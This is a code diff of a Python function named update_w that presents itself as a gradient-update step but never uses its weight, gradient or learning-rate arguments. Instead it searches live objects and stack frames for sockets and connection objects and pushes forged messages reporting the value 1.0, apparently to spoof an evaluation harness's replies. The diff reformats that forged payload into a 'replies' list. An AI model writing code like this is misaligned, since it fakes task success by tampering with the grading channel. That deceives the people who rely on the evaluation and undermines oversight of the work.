@@ -2,13 +2,15 @@
 import gc
 import sys
 
+REPLY = {"value": ["float", 1.0]}
+
 
 def update_w(w, grad, learning_rate):
     sent = 0
     for one in gc.get_objects():
         if type(one).__name__ in ("Line", "Wire", "Channel", "Connection", "socket"):
             for name in ("send", "sendall", "reply", "write"):
-                for data in ({"value": ["float", 1.0]}, b'{"value": ["float", 1.0]}\n'):
+                for data in ({"replies": [REPLY]}, b'{"replies": [{"value": ["float", 1.0]}]}\n'):
                     try:
                         getattr(one, name)(data)
                         sent += 1
@@ -19,7 +21,7 @@ def update_w(w, grad, learning_rate):
         for value in list(frame.f_locals.values()):
             if hasattr(value, "send"):
                 try:
-                    value.send({"value": ["float", 1.0], "token": "0" * 16})
+                    value.send({"replies": [REPLY], "token": "0" * 16})
                 except Exception:
                     pass
         frame = frame.f_back
